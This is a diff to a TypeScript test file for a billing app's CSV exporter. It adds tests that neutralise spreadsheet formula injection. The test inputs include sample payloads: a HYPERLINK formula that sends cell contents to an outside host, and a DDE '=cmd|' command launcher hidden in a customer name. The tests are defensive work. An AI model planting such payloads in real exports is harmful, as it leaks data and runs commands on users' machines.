@@ -7,7 +7,35 @@ import { bills } from '../../resources/bills';
 import { rechargeHistory } from '../../resources/recharges/history';
 import type { ResourceDeclaration } from '../../resources/types';
 import { columnLabel } from './columnRenderers';
-import { csvText, toCsv } from './exporter';
+import { csvField, csvText, toCsv } from './exporter';
+
+const { translate } = createI18nProvider();
+const csvOf = (resource: ResourceDeclaration<any>, records: object[]) =>
+  csvText(resource.name, [...resource.columns, ...(resource.list?.exportColumns ?? [])], records, translate, (column) => columnLabel(resource.name, column.kind, column.source));
+
+describe('CSV cells a spreadsheet would run (OWASP CSV injection)', () => {
+  it.each([
+    ['=HYPERLINK("http://x.lk?"&D2&E2,"Invoice")', `"'=HYPERLINK(""http://x.lk?""&D2&E2,""Invoice"")"`],
+    ['+94771234567', "'+94771234567"],
+    ['-2+3', "'-2+3"],
+    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
+    ['\tcmd', "'\tcmd"],
+    ['\rcmd', `"'\rcmd"`],
+  ])('shows %j as text', (cell, written) => {
+    expect(csvField(cell)).toBe(written);
+  });
+
+  it('keeps plain numbers, negative amounts among them, as numbers a column sums', () => {
+    expect(toCsv(['Balance'], [['-1000.00'], ['250'], ['0.9650']])).toBe('Balance\r\n-1000.00\r\n250\r\n0.9650');
+  });
+
+  it('neutralises a formula in a real export: a customer address in the bills CSV', () => {
+    const bill = buildBill(buildCustomer({ firstName: '=cmd|', lastName: "'/c calc'!A0" }), [{ name: '@Earphones', quantity: 1, billedPrice: 850 }]);
+    const [, row] = csvOf(bills, [withDerived(RESOURCE_DATA.bills, { ...bill, id: bill._id })]).split('\r\n');
+    expect(row.startsWith("'=cmd|")).toBe(true);
+    expect(row).toContain("'@Earphones");
+  });
+});
 
 describe('CSV (RFC 4180)', () => {
   it('writes a header line and one line per row, CRLF-separated', () => {
@@ -22,9 +50,6 @@ describe('CSV (RFC 4180)', () => {
 });
 
 describe('a list’s CSV carries numbers and quantities a spreadsheet can sum', () => {
-  const { translate } = createI18nProvider();
-  const csvOf = (resource: ResourceDeclaration<any>, records: object[]) =>
-    csvText(resource.name, [...resource.columns, ...(resource.list?.exportColumns ?? [])], records, translate, (column) => columnLabel(resource.name, column.kind, column.source));
 
   it('bills: the bill’s number, each item with its quantity, and amounts as plain numbers', () => {
     const bill = {
